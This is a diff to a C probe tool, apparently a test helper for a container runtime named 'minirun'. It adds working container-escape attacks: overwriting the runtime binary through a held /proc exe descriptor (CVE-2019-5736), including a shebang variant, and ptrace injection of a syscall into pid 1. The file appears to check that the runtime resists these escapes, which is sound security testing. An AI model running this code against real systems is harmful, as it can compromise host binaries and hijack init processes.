@@ -25,12 +25,20 @@
 //   exe-attack        replace /etc/passwd by a fifo, wait for a `minirun exec`
 //                     helper to block on it, try its /proc/PID/exe and fds,
 //                     report, then let it go on
+//   init-exe-attack OUT   hold /proc/1/exe (a created container's init), wait
+//                     for pid 1 to exec, then write through the held fd
+//   shebang-attack FIFO OUT  wait for a process named "evil" (a minirun run as
+//                     the interpreter of #!/proc/self/exe, blocked on FIFO as
+//                     its --log), hold its exe, release it, write through it
+//   ptrace-inject DIR  attach to pid 1 and make it mkdir DIR (x86_64)
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <sched.h>
 #include <sys/personality.h>
+#include <sys/ptrace.h>
+#include <sys/user.h>
 #include <sys/syscall.h>
 #include <signal.h>
 #include <stdio.h>
@@ -68,6 +76,8 @@ static const char* errno_name(int e) {
     case ENOSYS: return "ENOSYS";
     case EAGAIN: return "EAGAIN";
     case ENXIO: return "ENXIO";
+    case ETXTBSY: return "ETXTBSY";
+    case ESRCH: return "ESRCH";
     case ENODEV: return "ENODEV";
     case EINVAL: return "EINVAL";
     default: return "EOTHER";
@@ -266,6 +276,140 @@ static int exe_attack(void) {
   return 0;
 }
 
+// Reports into OUT (a file in the container) as key=value lines.
+static FILE* open_report(const char* out) {
+  FILE* f = fopen(out, "w");
+  if (!f) f = stdout;
+  setvbuf(f, NULL, _IOLBF, 0);
+  return f;
+}
+
+// Holds `fd` (a process's exe) and tries to open it for writing through
+// /proc/self/fd until that works or `seconds` pass; reports the last errno.
+static void write_through_held_exe(FILE* rep, int fd, int seconds) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+  const char* last = "none";
+  for (int i = 0; i < seconds * 100; i++) {
+    int w = open(path, O_WRONLY | O_TRUNC);
+    if (w >= 0) {
+      (void)!write(w, "pwned\n", 6);
+      close(w);
+      last = "ok";
+      break;
+    }
+    last = errno_name(errno);
+    if (errno != ETXTBSY) break;
+    usleep(10000);
+  }
+  fprintf(rep, "exe_write=%s\n", last);
+}
+
+static void read_comm(pid_t pid, char* name, size_t size) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/comm", pid);
+  name[0] = 0;
+  FILE* f = fopen(path, "r");
+  if (!f) return;
+  if (fgets(name, (int)size, f)) name[strcspn(name, "\n")] = 0;
+  fclose(f);
+}
+
+// CVE-2019-5736 against a created container: its init is minirun until start.
+static int init_exe_attack(const char* out) {
+  FILE* rep = open_report(out);
+  int fd = open("/proc/1/exe", O_RDONLY);
+  fprintf(rep, "exe_open=%s\n", fd >= 0 ? "ok" : errno_name(errno));
+  fprintf(rep, "ready\n");
+  if (fd < 0) return 0;
+  char name[64] = "";
+  for (int i = 0; i < 3000; i++) {
+    read_comm(1, name, sizeof name);
+    if (!strcmp(name, "probe")) break;
+    usleep(10000);
+  }
+  write_through_held_exe(rep, fd, 10);
+  return 0;
+}
+
+// The same through a script whose interpreter is /proc/self/exe: the kernel
+// resolves it in the `minirun exec` helper, which then runs as "evil".
+static int shebang_attack(const char* fifo, const char* out) {
+  FILE* rep = open_report(out);
+  unlink(fifo);
+  if (mkfifo(fifo, 0666) != 0) {
+    fprintf(rep, "mkfifo=%s\n", errno_name(errno));
+    return 1;
+  }
+  fprintf(rep, "ready\n");
+  pid_t pid = 0;
+  for (int i = 0; i < 3000 && !(pid = find_process("evil")); i++) usleep(10000);
+  fprintf(rep, "interpreter=%s\n", pid ? "found" : "missing");
+  if (!pid) return 0;
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
+  int fd = open(path, O_RDONLY);
+  fprintf(rep, "exe_open=%s\n", fd >= 0 ? "ok" : errno_name(errno));
+  int r = open(fifo, O_RDONLY | O_NONBLOCK);  // lets it go on
+  char buf[512];
+  for (int i = 0; i < 500 && find_process("evil"); i++) {
+    while (r >= 0 && read(r, buf, sizeof buf) > 0) {
+    }
+    usleep(10000);
+  }
+  if (fd >= 0) write_through_held_exe(rep, fd, 10);
+  return 0;
+}
+
+// Makes pid 1 (blocked in a syscall) run mkdir(dir) and reports the result.
+static int ptrace_inject(const char* dir) {
+#if defined(__x86_64__)
+  if (ptrace(PTRACE_ATTACH, 1, 0, 0) != 0) {
+    printf("attach=%s\n", errno_name(errno));
+    return 0;
+  }
+  int st;
+  waitpid(1, &st, __WALL);
+  struct user_regs_struct saved, r;
+  ptrace(PTRACE_GETREGS, 1, 0, &saved);
+  long insn = ptrace(PTRACE_PEEKTEXT, 1, saved.rip - 2, 0);
+  if ((insn & 0xffff) != 0x050f) {  // not just after a `syscall`
+    printf("attach=ok\nmkdir=nosyscall\n");
+    ptrace(PTRACE_DETACH, 1, 0, 0);
+    return 0;
+  }
+  unsigned long addr = (saved.rsp - 4096) & ~7UL;
+  char buf[256] = {0};
+  strncpy(buf, dir, sizeof buf - 1);
+  for (size_t i = 0; i < sizeof buf; i += 8) {
+    long word;
+    memcpy(&word, buf + i, sizeof word);
+    ptrace(PTRACE_POKEDATA, 1, addr + i, word);
+  }
+  r = saved;
+  r.rax = SYS_mkdir;
+  r.orig_rax = (unsigned long)-1;  // no restart of the interrupted call
+  r.rdi = addr;
+  r.rsi = 0755;
+  r.rip = saved.rip - 2;
+  ptrace(PTRACE_SETREGS, 1, 0, &r);
+  ptrace(PTRACE_SINGLESTEP, 1, 0, 0);
+  waitpid(1, &st, __WALL);
+  ptrace(PTRACE_GETREGS, 1, 0, &r);
+  long rc = (long)r.rax;
+  printf("attach=ok\nmkdir=%s\n", rc == 0 ? "ok" : errno_name((int)-rc));
+  // Restart the call it was blocked in.
+  saved.rip -= 2;
+  saved.rax = saved.orig_rax;
+  ptrace(PTRACE_SETREGS, 1, 0, &saved);
+  ptrace(PTRACE_DETACH, 1, 0, 0);
+#else
+  (void)dir;
+  printf("attach=unsupported\n");
+#endif
+  return 0;
+}
+
 static long now_ms(clockid_t c) {
   struct timespec ts;
   clock_gettime(c, &ts);
@@ -366,6 +510,9 @@ int main(int argc, char** argv) {
     return rc == 0 ? 0 : 1;
   }
   if (!strcmp(cmd, "exe-attack")) return exe_attack();
+  if (!strcmp(cmd, "init-exe-attack") && argc > 2) return init_exe_attack(argv[2]);
+  if (!strcmp(cmd, "shebang-attack") && argc > 3) return shebang_attack(argv[2], argv[3]);
+  if (!strcmp(cmd, "ptrace-inject") && argc > 2) return ptrace_inject(argv[2]);
   fprintf(stderr, "probe: unknown command %s\n", cmd);
   return 2;
 }
